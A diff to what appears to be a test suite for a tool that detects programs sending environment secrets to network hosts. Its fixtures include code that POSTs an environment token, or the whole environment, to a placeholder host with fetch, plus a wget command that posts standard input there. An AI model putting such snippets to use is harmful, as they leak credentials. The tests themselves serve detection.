@@ -39,6 +39,13 @@ test("a variable that holds a shell is one", async () => {
   expect(await actionsOf("b.sh", `${variable("SHELL")} --version; ${variable("PAGER")} README`)).toEqual([]);
 });
 
+test("a member of what was made of the environment is one variable", async () => {
+  const client = (use: string) =>
+    `import { z } from "zod";\nconst env = z.object({}).parse(process.env);\nawait fetch("https://a.example", { method: "POST", body: ${use} });`;
+  expect(await actionsOf("a.mjs", client("env.A_TOKEN"))).toEqual(["fetch a.example by fetch <- environment:A_TOKEN"]);
+  expect(await actionsOf("a.mjs", client("JSON.stringify(env)"))).toEqual(["fetch a.example by fetch <- environment"]);
+});
+
 test("a program's own environment by its file and through standard input", async () => {
   const sent = "send a.example by wget <- environment";
   const wget = "wget -q -O /dev/null --post-file=- https://a.example";
